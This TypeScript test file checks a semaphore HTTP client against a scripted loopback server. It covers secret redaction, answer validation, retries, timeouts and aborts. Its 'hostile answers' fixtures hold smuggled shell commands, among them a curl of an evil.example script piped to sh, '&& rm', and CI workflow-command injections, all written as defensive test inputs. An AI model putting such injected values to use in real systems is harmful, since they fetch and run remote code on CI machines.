// The client against a loopback HTTP server that answers what each test scripts: malformed answers,
// 5xx, hangs and oversized bodies, which the real Worker never sends.
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { SemaphoreClient, SemaphoreError } from '../../src/semaphore/client.ts';
import { MAX_ANSWER_BYTES } from '../../src/semaphore/protocol.ts';
import { newSlotRecord } from './helpers.ts';

type Script = (request: IncomingMessage, response: ServerResponse) => void;

const TOKEN = 'secret-token-for-client-tests';
let server: ReturnType<typeof createServer>;
let baseUrl: string;
let script: Script;
let received: { method: string; url: string; authorization: string | undefined; body: string }[];

beforeAll(async () => {
  server = createServer((request, response) => {
    const seen = {
      method: request.method ?? '',
      url: request.url ?? '',
      authorization: request.headers.authorization,
      body: '',
    };
    received.push(seen);
    request.setEncoding('utf8').on('data', (chunk: string) => {
      seen.body += chunk;
    });
    request.on('end', () => script(request, response));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

beforeEach(() => {
  received = [];
  script = (_request, response) =>
    sendJson(response, 500, { error: { code: 'internal', message: 'unscripted' } });
});

function sendJson(response: ServerResponse, status: number, body: unknown): void {
  response.writeHead(status, { 'content-type': 'application/json' });
  response.end(JSON.stringify(body));
}

function client(
  options: { timeoutMs?: number; maxAttempts?: number; signal?: AbortSignal } = {},
): SemaphoreClient {
  return new SemaphoreClient({ baseUrl, token: TOKEN, ...options });
}

async function failure(promise: Promise<unknown>): Promise<SemaphoreError> {
  const error = await promise.then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(SemaphoreError);
  const semaphoreError = error as SemaphoreError;
  expect(`${semaphoreError.message} ${semaphoreError.stack} ${JSON.stringify(semaphoreError)}`).not.toContain(
    TOKEN,
  );
  return semaphoreError;
}

const slot = newSlotRecord('pool-a', 'preview-1', 1);

const acquireInput = { type: 'pool-a', slug: 'preview-1', holder: 'gc', leaseMs: 60_000 };

const releasedAnswer = {
  released: true,
  dirty: false,
  holder: 'gc',
  generation: 1,
  leaseVersion: 1,
  conditionFailed: false,
};

describe('what it writes', () => {
  const CLOUDFLARE = 'cf-token-the-run-also-holds';
  const echoes = (secret: string) => [secret, encodeURIComponent(`${secret}/x`), btoa(`Bearer ${secret}`)];

  it("redacts notes and erase failures of its token and the run's other secrets, before it clips them", async () => {
    script = (request, response) =>
      sendJson(response, 200, request.method === 'DELETE' ? { deleted: true } : releasedAnswer);
    const semaphore = new SemaphoreClient({ baseUrl, token: TOKEN, secrets: [CLOUDFLARE] });
    // The Cloudflare token sits across the message's 500th character, where a clip would cut it in two.
    const message = `${'x'.repeat(490)} ${CLOUDFLARE} ${echoes(TOKEN).join(' ')}`;
    await semaphore.release({
      type: 'pool-a',
      slug: 'preview-1',
      leaseId: crypto.randomUUID(),
      eraseFailure: { step: `d1 ${echoes(CLOUDFLARE).join(' ')}`, message },
      note: `pasted ${CLOUDFLARE}`,
    });
    await semaphore.remove('pool-a', 'preview-1', { ifGeneration: 3, note: `by ${TOKEN}` });
    const sent = received.map((request) => `${decodeURIComponent(request.url)} ${request.body}`).join('\n');
    for (const secret of [CLOUDFLARE, TOKEN]) {
      for (const part of [secret, secret.slice(0, 10), btoa(`Bearer ${secret}`).slice(12, 30)])
        expect(sent).not.toContain(part);
    }
    const body = JSON.parse(received[0]?.body ?? '{}');
    expect(body.note).toBe('pasted ***');
    expect(body.eraseFailure.step).toMatch(/^d1 \*\*\* \*\*\*%2Fx QmVhcmVyI\w?\*\*\*/);
    expect([...body.eraseFailure.message]).toHaveLength(500);
    expect(body.eraseFailure.message.endsWith('…')).toBe(true);
    expect(received[1]?.url).toBe('/api/resources/pool-a/preview-1?ifGeneration=3&note=by+***');
  });

  it('sends nothing when a name carries a secret', async () => {
    const semaphore = new SemaphoreClient({ baseUrl, token: TOKEN, secrets: [CLOUDFLARE] });
    const error = await failure(
      semaphore.acquire({ type: 'pool-a', holder: `x${CLOUDFLARE}`, leaseMs: 60_000 }),
    );
    expect(error.message).toBe(
      'POST /api/resources/acquire: holder carries a secret of this run (a token), so nothing was sent',
    );
    expect(received).toEqual([]);
  });
});

describe('answer validation', () => {
  it('names the field of an answer that does not follow the protocol', async () => {
    script = (_request, response) =>
      sendJson(response, 200, { now: 5, resources: [{ ...slot, generation: 'seventeen' }] });
    const error = await failure(client().list('pool-a'));
    expect(error).toMatchObject({ code: 'invalid_answer', status: 200, operation: 'GET /api/resources' });
    expect(error.message).toContain('resources.0.generation');
  });

  it('refuses an answer that is not JSON, and a success that should have been a lease', async () => {
    script = (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<html>login</html>');
    };
    expect(await failure(client().find('pool-a', 'preview-1'))).toMatchObject({ code: 'invalid_answer' });
    script = (_request, response) => sendJson(response, 200, { ...slot, leaseId: undefined });
    const error = await failure(client().acquireSpecific(acquireInput));
    expect(error.message).toContain('leaseId');
  });

  it('refuses an answer larger than 4 MiB without buffering it', async () => {
    const chunks = MAX_ANSWER_BYTES / (64 * 1024) + 1;
    script = (_request, response) => {
      response.writeHead(200, { 'content-type': 'application/json' });
      // No content-length: the client has to count while reading.
      const chunk = 'x'.repeat(64 * 1024);
      let sent = 0;
      const push = () => {
        while (sent < chunks && response.write(chunk)) sent += 1;
        if (sent < chunks) response.once('drain', push);
        else response.end();
      };
      push();
    };
    const error = await failure(client().list('pool-a'));
    expect(error).toMatchObject({ code: 'invalid_answer' });
    expect(error.message).toContain('larger than 4194304 bytes');
  });

  it("carries the server's status, code, message and issues", async () => {
    const issues = [{ path: ['leaseMs'], message: 'leaseMs must be at least 1000' }];
    script = (_request, response) =>
      sendJson(response, 400, {
        error: { code: 'invalid_request', message: 'invalid request body', issues },
      });
    const error = await failure(client().acquire({ type: 'pool-a', holder: 'gc', leaseMs: 5 }));
    expect(error).toMatchObject({
      status: 400,
      code: 'invalid_request',
      message: 'invalid request body',
      issues,
    });
  });
});

describe('hostile answers', () => {
  const lease = {
    type: 'pool-a',
    slug: 'preview-1',
    data: {},
    leaseId: '6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10',
    holder: 'gc',
    expiresAt: 5,
    generation: 2,
    leaseVersion: 1,
    wasDirty: true,
    previousHolder: 'pr-5',
    reused: false,
    tookExpired: true,
  };
  const injected = 'preview-1\n::warning title=X::owned\n::add-mask::preview';
  const shell = '6f1c0e0e-8a57-4a53-9d8e-2f7c5f0f9a10; curl -s https://evil.example/p.sh | sh; #';

  it('refuses names, holders and lease ids that break the request rules, naming the field but not the value', async () => {
    const cases: [string, () => Promise<unknown>, unknown, string][] = [
      [
        'a slug with a workflow command',
        () => client().list('pool-a'),
        { now: 5, resources: [{ ...slot, slug: injected }] },
        'resources.0.slug',
      ],
      [
        'a pool name with a space',
        () => client().find('pool-a', 'preview-1'),
        { ...slot, type: 'pool a && rm' },
        'type',
      ],
      [
        'a holder with a newline',
        () => client().find('pool-a', 'preview-1'),
        { ...slot, holder: 'pr-1\n::stop-commands::x' },
        'holder',
      ],
      [
        'a lastHolder with a control character',
        () => client().find('pool-a', 'preview-1'),
        { ...slot, lastHolder: 'a\u001b[31mb' },
        'lastHolder',
      ],
      [
        'a leaseId with shell text',
        () => client().acquireSpecific(acquireInput),
        { ...lease, leaseId: shell },
        'leaseId',
      ],
      [
        'a previousHolder with a newline',
        () => client().acquire({ type: 'pool-a', holder: 'gc', leaseMs: 60_000 }),
        { ...lease, previousHolder: 'x\n::error::y' },
        'previousHolder',
      ],
      [
        'a lease end later than any date can hold',
        () => client().acquire({ type: 'pool-a', holder: 'gc', leaseMs: 60_000 }),
        { ...lease, expiresAt: 8_640_000_000_000_001 },
        'expiresAt',
      ],
      [
        'an event slug with shell text',
        () => client().events('pool-a', 'preview-1'),
        {
          events: [
            { at: 1, event: 'added', slug: 'x && curl evil', holder: null, generation: 0, detail: {} },
          ],
        },
        'events.0.slug',
      ],
      [
        'a pool name in the listing',
        () => client().pools(),
        { now: 5, pools: [{ type: '::warning::x', slots: 1, leased: 0, expired: 0, dirty: 0 }] },
        'pools.0.type',
      ],
      [
        'a released holder with a newline',
        () => client().release({ type: 'pool-a', slug: 'preview-1', force: true }),
        { ...releasedAnswer, holder: 'gc\n::error::x' },
        'holder',
      ],
    ];
    for (const [what, call, answer, field] of cases) {
      script = (_request, response) => sendJson(response, 200, answer);
      const error = await failure(call());
      expect(error, what).toMatchObject({ code: 'invalid_answer' });
      expect(error.message, what).toContain(`${field}: `);
      expect(error.message, what).toContain('The semaphore sent something else there, not repeated here');
      for (const raw of ['::', 'curl', '\n', '\u001b', '&&']) expect(error.message, what).not.toContain(raw);
    }
  });

  it('refuses a lease of another slot without repeating a slug that breaks the rules', async () => {
    script = (_request, response) => sendJson(response, 200, { ...lease, slug: injected });
    const error = await failure(client().acquireSpecific(acquireInput));
    expect(error.message).toContain('slug: slug must be');
    expect(error.message).not.toContain('::');
    script = (_request, response) => sendJson(response, 200, { ...lease, slug: 'preview-2' });
    expect((await failure(client().acquireSpecific(acquireInput))).message).toContain(
      'slug: is preview-2, but the call was for slot preview-1',
    );
  });
});

describe('retries', () => {
  it('retries idempotent calls on 5xx and succeeds when the server recovers', async () => {
    let calls = 0;
    script = (_request, response) => {
      calls += 1;
      if (calls < 3) sendJson(response, 503, { error: { code: 'internal', message: 'busy' } });
      else sendJson(response, 200, slot);
    };
    const semaphore = client();
    expect(await semaphore.find('pool-a', 'preview-1')).toEqual(slot);
    expect(semaphore.requestCount).toBe(3);
    expect(received.every((request) => request.authorization === `Bearer ${TOKEN}`)).toBe(true);
  });

  it('gives up after maxAttempts with the last error', async () => {
    script = (_request, response) =>
      sendJson(response, 502, { error: { code: 'internal', message: 'down' } });
    const semaphore = client({ maxAttempts: 2 });
    const error = await failure(semaphore.renew({ ...acquireInput, leaseId: crypto.randomUUID() }));
    expect(error).toMatchObject({ status: 502, code: 'internal', message: 'down' });
    expect(semaphore.requestCount).toBe(2);
  });

  it('never retries an acquire without requestId, a force release not pinned to a generation, add or remove', async () => {
    script = (_request, response) => {
      response.writeHead(500);
      response.end('oops');
    };
    const semaphore = client();
    const errors = await Promise.all(
      [
        semaphore.acquireSpecific(acquireInput),
        semaphore.acquire({ type: 'pool-a', holder: 'gc', leaseMs: 60_000 }),
        semaphore.release({ type: 'pool-a', slug: 'preview-1', force: true }),
        semaphore.release({ type: 'pool-a', slug: 'preview-1', force: true, ifHolder: 'pr-7' }),
        semaphore.add({ type: 'pool-a', slug: 'preview-1' }),
        semaphore.remove('pool-a', 'preview-1', { ifGeneration: 0 }),
      ].map(failure),
    );
    for (const error of errors) expect(error).toMatchObject({ status: 500, code: 'http_error' });
    expect(semaphore.requestCount).toBe(errors.length);
  });

  it('retries acquires that carry a requestId and releases by leaseId', async () => {
    script = (_request, response) => sendJson(response, 500, { error: { code: 'internal', message: 'x' } });
    const semaphore = client({ maxAttempts: 2 });
    await failure(semaphore.acquireSpecific({ ...acquireInput, requestId: 'r-1' }));
    await failure(semaphore.acquire({ type: 'pool-a', holder: 'gc', leaseMs: 60_000, requestId: 'r-2' }));
    await failure(semaphore.release({ type: 'pool-a', slug: 'preview-1', leaseId: crypto.randomUUID() }));
    // A force pinned to a generation cannot release a newer lease (that one has a newer generation).
    await failure(semaphore.release({ type: 'pool-a', slug: 'preview-1', force: true, ifGeneration: 3 }));
    expect(semaphore.requestCount).toBe(8);
  });

  it('waits out a short 429 before retrying, but gives up at once on a long one', async () => {
    let calls = 0;
    script = (_request, response) => {
      calls += 1;
      if (calls === 1) {
        response.writeHead(429, { 'content-type': 'application/json', 'retry-after': '0' });
        response.end(JSON.stringify({ error: { code: 'rate_limited', message: 'slow down' } }));
      } else sendJson(response, 200, slot);
    };
    expect(await client().find('pool-a', 'preview-1')).toEqual(slot);
    expect(calls).toBe(2);

    script = (_request, response) => {
      response.writeHead(429, { 'content-type': 'application/json', 'retry-after': '300' });
      response.end(JSON.stringify({ error: { code: 'rate_limited', message: 'blocked' } }));
    };
    const semaphore = client();
    const error = await failure(
      semaphore.release({ type: 'pool-a', slug: 'preview-1', leaseId: crypto.randomUUID() }),
    );
    expect(error).toMatchObject({ status: 429, retryAfterMs: 300_000 });
    expect(semaphore.requestCount).toBe(1);
  });

  it('does not retry 4xx answers', async () => {
    script = (_request, response) =>
      sendJson(response, 404, { error: { code: 'not_found', message: 'no slot' } });
    const semaphore = client();
    expect(await failure(semaphore.find('pool-a', 'preview-1'))).toMatchObject({
      status: 404,
      code: 'not_found',
    });
    expect(semaphore.requestCount).toBe(1);
  });

  it('times out each request, retries the timeout, and reports it', async () => {
    script = () => {
      // Never answers.
    };
    const semaphore = client({ timeoutMs: 100, maxAttempts: 2 });
    const error = await failure(semaphore.list('pool-a'));
    expect(error).toMatchObject({ code: 'timeout', status: undefined });
    expect(semaphore.requestCount).toBe(2);
  });
});

describe('transport', () => {
  it('reports an unreachable server as a network error without the token', async () => {
    const closed = createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const port = (closed.address() as AddressInfo).port;
    await new Promise((resolve) => closed.close(resolve));
    const semaphore = new SemaphoreClient({
      baseUrl: `http://127.0.0.1:${port}`,
      token: TOKEN,
      maxAttempts: 2,
    });
    const error = await failure(semaphore.health());
    expect(error.code).toBe('network');
    expect(error.message).toContain('ECONNREFUSED');
    expect(semaphore.requestCount).toBe(2);
  });

  it('stops every call when the signal aborts, without retrying', async () => {
    const { promise: arrived, resolve } = Promise.withResolvers<void>();
    script = () => resolve(); // and never answers
    const controller = new AbortController();
    const semaphore = client({ signal: controller.signal });
    const pending = failure(semaphore.list('pool-a'));
    await arrived;
    controller.abort();
    expect(await pending).toMatchObject({ code: 'aborted' });
    expect(await failure(semaphore.list('pool-a'))).toMatchObject({ code: 'aborted' });
    expect(semaphore.requestCount).toBe(1);
  });

  it('sends the documented routes, encodes path segments and leaves the token off health', async () => {
    script = (request, response) => {
      if (request.url === '/api/health') sendJson(response, 200, { ok: true, version: '1.2.3' });
      else if (request.url?.includes('/events')) sendJson(response, 200, { events: [] });
      else sendJson(response, 200, releasedAnswer);
    };
    const semaphore = client();
    expect(await semaphore.health()).toEqual({ ok: true, version: '1.2.3' });
    expect(await semaphore.events('pool-a', 'preview-1', 20)).toEqual([]);
    expect(
      await semaphore.release({ type: 'pool-a', slug: 'preview-1', leaseId: crypto.randomUUID() }),
    ).toEqual(releasedAnswer);
    await failure(semaphore.find('pool a', '../x'));
    expect(received.map((request) => `${request.method} ${request.url}`)).toEqual([
      'GET /api/health',
      'GET /api/resources/pool-a/preview-1/events?limit=20',
      'POST /api/resources/release',
      'GET /api/resources/pool%20a/..%2Fx',
    ]);
    expect(received[0]?.authorization).toBeUndefined();
  });
});
